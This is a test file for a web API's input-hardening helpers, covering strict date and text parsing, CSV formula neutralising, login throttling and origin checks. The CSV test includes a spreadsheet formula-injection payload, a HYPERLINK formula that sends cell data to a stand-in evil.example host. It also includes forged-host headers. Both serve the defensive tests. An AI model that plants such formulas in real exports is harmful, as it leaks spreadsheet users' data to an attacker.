// Pure helpers behind issue 9 findings 3, 5, 9, 10, 11: strict dates and text, CSV neutralising,
// login throttle arithmetic, own-origin checks, transport advice.
import { expect } from "chai";
import { z } from "zod";
import { checkText, line, parseStrictDate, strictDate, text } from "../../api/src/http/input";
import { formatNumber, neutraliseCell, toCsv } from "../../api/src/http/csv";
import { LoginThrottle, addressKey } from "../../api/src/auth/login-throttle";
import { isOwnOrigin, publicBaseUrl, requestFacts } from "../../api/src/http/origin";
import { loadConfig, transportWarning } from "../../api/src/config";

describe("strict input primitives (issue 9.9)", () => {
  it("accepts real calendar dates and ISO date-times with offset", () => {
    expect(parseStrictDate("2026-02-28")).to.deep.equal({ ok: true, date: new Date("2026-02-28T00:00:00Z") });
    expect(parseStrictDate("2028-02-29").ok).to.equal(true);
    const r = parseStrictDate("2026-12-01T10:15:00+01:00");
    expect(r.ok && r.date.toISOString()).to.equal("2026-12-01T09:15:00.000Z");
    expect(parseStrictDate("2026-12-01T10:15:00.123Z").ok).to.equal(true);
  });

  it("refuses null, booleans, numbers, rolled-over and out-of-range dates with a machine code", () => {
    for (const v of [
      null,
      true,
      false,
      0,
      -1,
      123,
      8.64e15,
      "",
      "2026-02-30",
      "2027-02-29",
      "2026-13-01",
      "2026-1-1",
      "2026-12-01T10:00",
      "2026-12-01T25:00:00Z",
      "+275760-09-13T00:00:00.000Z",
      "1970-01-01",
      "2101-01-01",
      "2026-12-01 10:00:00Z",
    ]) {
      const r = parseStrictDate(v);
      expect(r.ok, String(v)).to.equal(false);
    }
    expect(parseStrictDate("2026-02-30")).to.include({ code: "invalid_date" });
    expect(parseStrictDate("1999-12-31")).to.include({ code: "date_out_of_range" });
    const issue = z.object({ d: strictDate() }).safeParse({ d: "2026-02-30" }).error!.issues[0] as { params?: { code?: string } };
    expect(issue.params?.code).to.equal("invalid_date");
  });

  it("refuses NUL, C0/C1 controls and lone surrogates; multi-line text keeps newline and tab", () => {
    for (const s of ["a\u0000b", "a\u0007", "a\u001b[31m", "x\u0085", "a\u007f", "\ud800", "a\udc00b", "line\nbreak"])
      expect(checkText(s, false).ok, JSON.stringify(s)).to.equal(false);
    expect(checkText("Ünïcödé 👍 ok", false).ok).to.equal(true);
    expect(checkText("first\nsecond\r\n\tthird 👍", true).ok).to.equal(true);
    expect(checkText("bare\rcarriage", true).ok).to.equal(false);
    expect(checkText("a\u0000", true)).to.include({ code: "control_character" });
    expect(checkText("\ud83d", true)).to.include({ code: "invalid_unicode" });
    const r = z.object({ t: line().trim().min(2), n: text().optional() }).safeParse({ t: "ok\u0000", n: "x" });
    expect((r.error!.issues[0] as { params?: { code?: string } }).params?.code).to.equal("control_character");
    expect(z.object({ t: line().trim().min(2) }).parse({ t: "  Hodan  " })).to.deep.equal({ t: "Hodan" });
  });
});

describe("CSV cells (issue 9.3, issue 10.9)", () => {
  it("neutralises every text cell a spreadsheet would run as a formula", () => {
    for (const s of ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1"])
      expect(neutraliseCell(s)).to.equal(`'${s}`);
    expect(neutraliseCell("Anne-Marie")).to.equal("Anne-Marie");
  });

  it("keeps numbers numeric (negative too), with a decimal comma in the Dutch format", () => {
    expect(formatNumber(-25.75, true)).to.equal("-25,75");
    expect(formatNumber(75.75)).to.equal("75.75");
    const csv = toCsv(
      [
        ["name", "remaining"],
        ["-1+1", -25.75],
        ['Say "hi"', 3],
      ],
      { delimiter: ";", decimalComma: true, bom: true },
    );
    expect(csv).to.equal('\uFEFF"name";"remaining"\r\n"\'-1+1";-25,75\r\n"Say ""hi""";3\r\n');
  });
});

describe("login throttle (issue 9.5)", () => {
  const settings = { freeAttempts: 5, ipFailures: 30, windowMs: 15 * 60_000, maxDelayMs: 15 * 60_000 };

  it("slows one address × username after the free attempts, with growing delays, and never the same name elsewhere", () => {
    let t = 1_000_000;
    const th = new LoginThrottle(settings, () => t);
    for (let i = 0; i < 4; i++) expect(th.fail("10.0.0.1", "auditor")).to.deep.equal([]);
    const ev = th.fail("10.0.0.1", "Auditor ");
    expect(ev).to.have.length(1);
    expect(ev[0]).to.include({ scope: "account", delayMs: 1000, failures: 5, username: "auditor" });
    expect(th.check("10.0.0.1", "auditor")).to.deep.equal({ allowed: false, scope: "account", retryAfterMs: 1000 });
    expect(th.check("10.0.0.2", "auditor")).to.deep.equal({ allowed: true });
    t += 1000;
    expect(th.check("10.0.0.1", "auditor").allowed).to.equal(true);
    expect(th.fail("10.0.0.1", "auditor")[0]!.delayMs).to.equal(2000);
    t += 2000;
    expect(th.fail("10.0.0.1", "auditor")[0]).to.include({ delayMs: 4000 });
    th.succeed("10.0.0.1", "auditor");
    expect(th.check("10.0.0.1", "auditor").allowed).to.equal(true);
  });

  it("slows an address that tries many usernames, caps the delay, and forgets after the window", () => {
    let t = 0;
    const th = new LoginThrottle(settings, () => t);
    for (let i = 0; i < 29; i++) th.fail("10.0.0.9", `user${i}`);
    expect(th.check("10.0.0.9", "someone").allowed).to.equal(true);
    expect(th.fail("10.0.0.9", "user29").map((e) => e.scope)).to.include("address");
    expect(th.check("10.0.0.9", "someone")).to.include({ allowed: false, scope: "address" });
    const delays: number[] = [];
    for (let i = 0; i < 12; i++) {
      const v = th.check("10.0.0.9", `again${i}`);
      t += v.allowed ? 0 : v.retryAfterMs; // the attacker waits each delay out, then fails again
      delays.push(th.fail("10.0.0.9", `again${i}`).find((e) => e.scope === "address")!.delayMs);
    }
    expect(delays.slice(0, 4)).to.deep.equal([2000, 4000, 8000, 16000]);
    expect(delays.at(-1)).to.equal(settings.maxDelayMs);
    t += settings.maxDelayMs + settings.windowMs + 1;
    expect(th.check("10.0.0.9", "x").allowed).to.equal(true);
  });

  it("keeps its memory bounded and groups IPv6 by /64", () => {
    const th = new LoginThrottle({ ...settings, maxEntries: 100 }, () => 0);
    for (let i = 0; i < 1000; i++) th.fail(`10.1.${i >> 8}.${i & 255}`, `u${i}`);
    // At least the 100 most recent of each, at most twice that.
    expect(th.size.address).to.be.within(100, 200);
    expect(th.size.account).to.be.within(100, 200);
    expect(th.size.user).to.be.within(100, 200);
    // A throttled pair is still known after 99 newer keys.
    for (let i = 0; i < 5; i++) th.fail("10.2.0.1", "victim");
    for (let i = 0; i < 99; i++) th.fail(`10.3.0.${i}`, `v${i}`);
    expect(th.check("10.2.0.1", "victim").allowed).to.equal(false);
    expect(addressKey("2001:db8:1:2:aaaa::1")).to.equal(addressKey("2001:db8:1:2:bbbb::2"));
    expect(addressKey("::ffff:127.0.0.1")).to.equal("127.0.0.1");
  });
});

describe("own origin, proxies and transport (issue 9.10, 9.11)", () => {
  it("matches the Host (any scheme) or PUBLIC_URL, never a foreign or null origin", () => {
    const facts = { host: "localhost:3000", protocol: "http" };
    expect(isOwnOrigin("http://localhost:3000", {}, facts)).to.equal(true);
    expect(isOwnOrigin("http://localhost:3000/budgets?x=1", {}, facts)).to.equal(true);
    expect(isOwnOrigin("https://evil.example", {}, facts)).to.equal(false);
    expect(isOwnOrigin("null", {}, facts)).to.equal(false);
    expect(isOwnOrigin(undefined, {}, facts)).to.equal(false);
    expect(isOwnOrigin("http://localhost:3001", {}, facts)).to.equal(false);
    expect(isOwnOrigin("https://ndv.politie.example", { PUBLIC_URL: "https://ndv.politie.example/" }, facts)).to.equal(true);
    expect(isOwnOrigin("https://example.org", {}, { host: "example.org:443", protocol: "https" })).to.equal(true);
  });

  it("believes X-Forwarded-Host/-Proto only with TRUST_PROXY, and prefers PUBLIC_URL", () => {
    const headers = { host: "ndv.local:3000", "x-forwarded-host": "attacker.example", "x-forwarded-proto": "https" };
    expect(requestFacts(headers, false, false)).to.deep.equal({ host: "ndv.local:3000", protocol: "http" });
    expect(requestFacts(headers, false, true)).to.deep.equal({ host: "attacker.example", protocol: "https" });
    expect(publicBaseUrl({ PUBLIC_URL: "https://ndv.example/" }, requestFacts(headers, false, true))).to.equal("https://ndv.example");
  });

  it("warns at start-up when the cookie is Secure but no HTTPS proxy is trusted", () => {
    expect(transportWarning(loadConfig({ NODE_ENV: "production" }))).to.match(/TRUST_PROXY/);
    expect(transportWarning(loadConfig({ NODE_ENV: "production", TRUST_PROXY: "1" }))).to.equal(undefined);
    expect(transportWarning(loadConfig({ NODE_ENV: "production", COOKIE_SECURE: "0" }))).to.equal(undefined);
    expect(transportWarning(loadConfig({}))).to.equal(undefined);
  });
});

describe("error middleware for odd methods and database faults (issue 9.8)", () => {
  it("TRACE → 405 and a pool-cleared error → 503 problem, neither logged at error level", async () => {
    const Koa = (await import("koa")).default;
    const { Writable } = await import("node:stream");
    const pino = (await import("pino")).default;
    const mongoose = (await import("mongoose")).default;
    const { errorHandler } = await import("../../api/src/http/errors");
    const { hardening } = await import("../../api/src/http/hardening");
    const { raw } = await import("../helpers/raw");
    const lines: { level: number }[] = [];
    const logger = pino({ level: "trace" }, new Writable({ write: (c, _e, cb) => (lines.push(JSON.parse(String(c))), cb()) }));
    class PoolClearedOnNetworkError extends mongoose.mongo.MongoNetworkError {
      override get name() {
        return "PoolClearedOnNetworkError";
      }
    }
    const app = new Koa();
    app.use(errorHandler(logger));
    app.use(hardening({ config: {}, lenientPaths: new Set() }));
    app.use(() => {
      throw new PoolClearedOnNetworkError("Connection pool was cleared");
    });
    const server = app.listen(0, "127.0.0.1");
    await new Promise((r) => server.once("listening", r));
    try {
      const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
      const trace = await raw(url, "TRACE", "/api/v1/auth/login");
      expect(trace.status).to.equal(405);
      expect(trace.headers["content-type"]).to.contain("application/problem+json");
      const login = await raw(url, "POST", "/api/v1/auth/login", { body: "{}", headers: { "content-type": "application/json" } });
      expect(login.status).to.equal(503);
      expect(login.headers["retry-after"]).to.equal("5");
      expect(lines.filter((l) => l.level >= 50)).to.deep.equal([]);
      expect(lines.some((l) => l.level === 40)).to.equal(true);
    } finally {
      server.close();
    }
  });
});
